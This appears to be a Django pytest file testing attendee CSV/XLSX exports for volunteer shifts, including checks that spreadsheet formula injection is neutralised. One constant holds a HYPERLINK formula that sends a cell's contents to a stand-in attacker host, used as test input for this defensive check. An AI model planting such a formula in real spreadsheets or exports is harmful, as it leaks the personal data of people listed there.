import csv
import datetime as dt
import io

import openpyxl
import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from config.exports import safe_cell
from events.services.checkin import attendance_confirm, checkin_scan
from events.services.signups import signup_create
from tests.events.conftest import at
from volunteers.models import AuditEntry

pytestmark = pytest.mark.django_db

START = at(7, 9)
HEADER = ["Name", "E-mail", "Phone", "Status", "Checked in", "Attended", "Hours"]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


def _url(shift, fmt, language="en"):
    with translation.override(language):
        return reverse("events_manage:export", kwargs={"shift_id": shift.pk, "fmt": fmt})


@pytest.fixture
def shift(event_factory):
    return event_factory(shifts=[(START, START + dt.timedelta(hours=3), 10)]).shifts.get()


@pytest.fixture
def signup_factory(volunteer_factory):
    def make(shift, **volunteer):
        return signup_create(volunteer=volunteer_factory(**volunteer), shift=shift)

    return make


@pytest.fixture
def attended(shift, signup_factory, coordinator):
    """Aigerim came, was scanned at the door and got 2.5 hours; the other volunteer did not come."""
    came = signup_factory(shift, phone="+77012345678")
    came.volunteer.first_name, came.volunteer.last_name = "Aigerim", "Nurlanova"
    came.volunteer.save()
    absent = signup_factory(shift)
    with time_machine.travel(START + dt.timedelta(minutes=5), tick=False):
        checkin_scan(event=shift.event, raw_code=came.code, actor=coordinator)
    with time_machine.travel(START + dt.timedelta(hours=4), tick=False):
        attendance_confirm(signup=came, attended=True, hours="2.5", actor=coordinator)
        attendance_confirm(signup=absent, attended=False, hours=None, actor=coordinator)
    return came, absent


@pytest.fixture
def desk(client, coordinator):
    client.force_login(coordinator)
    return client


def _csv(response) -> list[list[str]]:
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _xlsx(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_csv_lists_the_attendees(desk, shift, attended):
    came, absent = attended
    response = desk.get(_url(shift, "csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    scanned = timezone.localtime(START + dt.timedelta(minutes=5))
    assert _csv(response) == [
        HEADER,
        [absent.volunteer.get_full_name(), absent.volunteer.email, "", "Confirmed", "", "no", "0.00"],
        ["Aigerim Nurlanova", came.volunteer.email, "8 (701) 234 5678", "Confirmed",
         f"{scanned:%Y-%m-%d %H:%M}", "yes", "2.50"],
    ]  # fmt: skip


def test_the_xlsx_lists_the_attendees(desk, shift, attended):
    came, absent = attended
    response = desk.get(_url(shift, "xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    scanned = timezone.localtime(START + dt.timedelta(minutes=5)).replace(tzinfo=None)
    assert _xlsx(response) == [
        HEADER,
        [absent.volunteer.get_full_name(), absent.volunteer.email, None, "Confirmed", None, "no", 0],
        ["Aigerim Nurlanova", came.volunteer.email, "8 (701) 234 5678", "Confirmed", scanned, "yes", 2.5],
    ]


def test_the_headers_are_in_the_coordinators_language(desk, shift, attended):
    rows = _csv(desk.get(_url(shift, "csv", language="ru")))
    assert rows[0][:4] == ["Имя", "Электронная почта", "Телефон", "Статус"]
    assert rows[2][6] == "2,50"  # Excel with Russian settings reads a decimal comma


def test_a_formula_in_a_name_is_neutralised_in_both_formats(desk, shift, signup_factory):
    signup = signup_factory(shift)
    signup.volunteer.first_name, signup.volunteer.last_name = EVIL, ""
    signup.volunteer.save()
    assert _csv(desk.get(_url(shift, "csv")))[1][0] == "'" + EVIL
    sheet = openpyxl.load_workbook(io.BytesIO(desk.get(_url(shift, "xlsx")).content)).active
    cell = sheet["A2"]
    assert (cell.value, cell.data_type) == ("'" + EVIL, "s")  # text, not a formula


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+7 701", "'+7 701"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Aigerim", "Aigerim"),
        ("a=b", "a=b"),
        (-2, -2),
        (None, None),
    ],
)
def test_safe_cell_quotes_what_a_spreadsheet_would_evaluate(value, written):
    assert safe_cell(value) == written


def test_the_export_is_audited(desk, shift, attended, coordinator):
    desk.get(_url(shift, "xlsx"))
    entry = AuditEntry.objects.get(action="events.attendees.exported")
    assert (entry.actor, entry.data) == (coordinator, {"shift": shift.pk, "format": "xlsx", "rows": 2})


@pytest.mark.parametrize("fmt", ["pdf", "CSV", "xls", "csv.exe"])
def test_another_format_is_404(desk, shift, fmt):
    assert desk.get(_url(shift, fmt)).status_code == 404
    assert not AuditEntry.objects.filter(action="events.attendees.exported").exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_costs_the_same_queries_for_any_number_of_volunteers(
    desk, shift, signup_factory, fmt, django_assert_max_num_queries
):
    signup_factory(shift)
    desk.get(_url(shift, fmt))  # the session and the like, once
    with CaptureQueriesContext(connection) as one:
        desk.get(_url(shift, fmt))
    for _ in range(6):
        signup_factory(shift, phone=None)
    with django_assert_max_num_queries(len(one.captured_queries)):
        response = desk.get(_url(shift, fmt))
    rows = _csv(response) if fmt == "csv" else _xlsx(response)
    assert len(rows) == 1 + 7
